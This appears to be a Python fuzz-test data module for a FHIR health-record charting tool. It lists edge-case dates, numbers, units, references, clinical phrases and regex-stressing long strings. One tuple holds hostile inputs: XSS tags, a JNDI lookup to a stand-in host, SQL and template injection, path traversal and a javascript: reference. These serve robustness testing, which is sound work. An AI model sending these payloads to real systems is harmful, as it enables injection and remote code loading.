"""What is put into charts: values that some reader somewhere has stumbled over."""

from __future__ import annotations

from typing import Any

DATES = (
    *("2026-11-22", "2026-11", "2026", "1890-01-01", "0001-01-01", "9999-12-31", "0000-00-00", "2026-02-30", "2026-13"),
    *("2026-11-22T09:00:00Z", "2026-11-22T09:00:00", "2026-11-22T24:00:00Z", "2026-11-22T23:59:60Z", "2026-W47-7"),
    *("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-11-22T09:00:00+99:99", "2026-11-22T09:00Z"),
    *("2026-11-22T09:00:00.123456789012345678901234567890Z", "20261122", "22.11.2026", "yesterday", "-0044-03-15"),
    *(
        "\uff12\uff10\uff12\uff16-11-22",
        "2026-11-22T09:00:00Z\u0000",
        " 2026-11-22 ",
        "2026-11-22 09:00:00",
        "99999-01-01",
        "1e9",
    ),
    *("2024-02-29", "2023-02-29", "2026-11-21T00:30:00+13:45", "2026-03-29T02:30:00+01:00", "2026-11-31"),
)
NUMBERS: tuple[Any, ...] = (
    *(0, -0.0, -1, 1, 2.4, 0.1, 1e-320, 5e-324, 1e15, 1e26, 1e27, 1e28, 1e30, 1e100, 1.7976931348623157e308, -1e308),
    *(2**31, 2**53 + 1, 2**63, 2**64, -(2**63) - 1, 10**30, 10**400, 10**4000, 123456789.123456789, 99999999999999999),
    *(3.0000000000000004, 2.9999999999999996, 0.005, 0.0049999, 1e-7, 12345678901234567890.5),
)
UNITS = (
    *("mmol/L", "mEq/L", "mg/dL", "ng/mL", "pg/mL", "U/L", "%", "1", "{score}", "g/dL", "µmol/L", "umol/L", "IU/L"),
    *("mmol/l", " mmol/L ", "MMOL/L", "mmol/L; DROP TABLE", "10*3/uL", "", "L/mmol", "mmol|L", "<b>mmol</b>", "𝓂mol/L"),
)
REFERENCES = (
    *("Patient/other", "Patient/", "/", "//", "#contained", "#", "urn:uuid:", "urn:oid:1.2.3", "Patient/../Patient/x"),
    *(
        "https://evil.example/fhir/Patient/x",
        "Patient/x/_history/1",
        "Patient/x/_history/",
        "Practitioner/1",
        "?",
        "%00",
    ),
    *("Group/1", "Condition?patient=x", "javascript:alert(1)", "Medication/m1", "#m1", "x" * 5000),
)
TYPES = (
    *("Patient", "Condition", "Observation", "MedicationRequest", "Medication", "ServiceRequest", "Procedure"),
    *("Encounter", "DiagnosticReport", "Bundle", "OperationOutcome", "Binary", "Parameters", "Device", "", "condition"),
)
CODES = (
    *(
        "active",
        "inactive",
        "resolved",
        "entered-in-error",
        "final",
        "preliminary",
        "cancelled",
        "completed",
        "stopped",
    ),
    *(
        "confirmed",
        "refuted",
        "provisional",
        "unconfirmed",
        "order",
        "plan",
        "male",
        "female",
        "unknown",
        "stat",
        "urgent",
    ),
    *("2823-3", "6077001", "M62.81", "R29.898", "G61.0", "<", "<=", ">", ">=", "~", "http://loinc.org", "M79.60_"),
)
_HOSTILE = (
    *(
        "",
        " ",
        "\u0000",
        "\ud800",
        "\udfff\ud800",
        "\u202egnp.exe",
        "\u200b" * 50,
        "a\u0300" * 200,
        "\ufeff",
        "\U0010ffff",
    ),
    *("<script>evil()</script>", "<img src=x onerror=evil()>", "[evil](http://evil.example)", "http://evil.example"),
    *(
        "www.evil.example",
        "evil@evil.example",
        "| evil | a | b |",
        "line\nevil\n\n# evil",
        "`evil`",
        "**evil**",
        "&lt;evil&gt;",
    ),
    *(
        "%s%n%x",
        "{0.__class__}",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "'; DROP TABLE evil; --",
        "=evil()",
        "../../evil",
    ),
    *("null", "true", "NaN", "[object Object]", "undefined", "0", "-1", "1e400", "İ", "ß", "ﬃ", "Ⅷ", "٣", "ǅ", "ŉ"),
)
PROSE = (
    *("leg weakness", "no leg weakness", "Patient denies weakness of the legs, but falls", "weakness, not of the legs"),
    *(
        "Verdacht auf Fußheberparese",
        "s/p foot drop, resolved",
        "? foot drop",
        "family history of ALS",
        "r/o cauda equina",
    ),
    *(
        "bilateral lower extremity weakness for 3 days",
        "foot drop left since 2024-13-45",
        "weakness in legs 2 years ago",
    ),
)
# A text of one kind that never ends is what a careless pattern needs to run for hours.
LONG = (
    *("no " * 4000, "weakness " * 2000, "leg " * 3000, "a" * 30_000, " " * 30_000, "," * 10_000, "denies and " * 2000),
    *("not-" * 5000, "(" * 5000, "leg weakness, no " * 1500, "\u0130" * 5000, ". " * 8000, "-" * 20_000, "no, " * 5000),
)
STRINGS = (*DATES, *UNITS, *REFERENCES, *TYPES, *CODES, *_HOSTILE, *PROSE)
OTHERS: tuple[Any, ...] = (
    None,
    True,
    False,
    [],
    {},
    [[]],
    [None],
    [{}],
    {"": None},
    {"resourceType": None},
    [1, "a", None],
)

BY_KEY: dict[str, tuple[Any, ...]] = {
    **dict.fromkeys(("unit", "code"), (*UNITS, *CODES)),
    **dict.fromkeys(("value", "valueInteger", "valueDecimal", "expires_in"), NUMBERS),
    **dict.fromkeys(("reference", "fullUrl", "url", "id", "patientId"), REFERENCES),
    **dict.fromkeys(("text", "display", "valueString", "conclusion"), (*PROSE, *LONG, *_HOSTILE)),
    **dict.fromkeys(("status", "intent", "priority", "comparator", "gender", "system"), CODES),
    "resourceType": TYPES,
}
"""What is tried for a key before all else; keys that end as those of dates do get dates."""

TELLING = frozenset(
    (
        *("value", "unit", "code", "system", "status", "reference", "text", "display", "valueString", "comparator"),
        *("effectiveDateTime", "onsetDateTime", "recordedDate", "authoredOn", "performedDateTime", "birthDate"),
        *("start", "end"),
    )
)
"""The keys of elements that cards hang on."""


def fitting(key: str) -> tuple[Any, ...]:
    """Values of about the right kind for a key."""
    if key.endswith(("Date", "DateTime", "On", "issued", "start", "end", "Instant")):
        return DATES
    return BY_KEY.get(key, STRINGS)
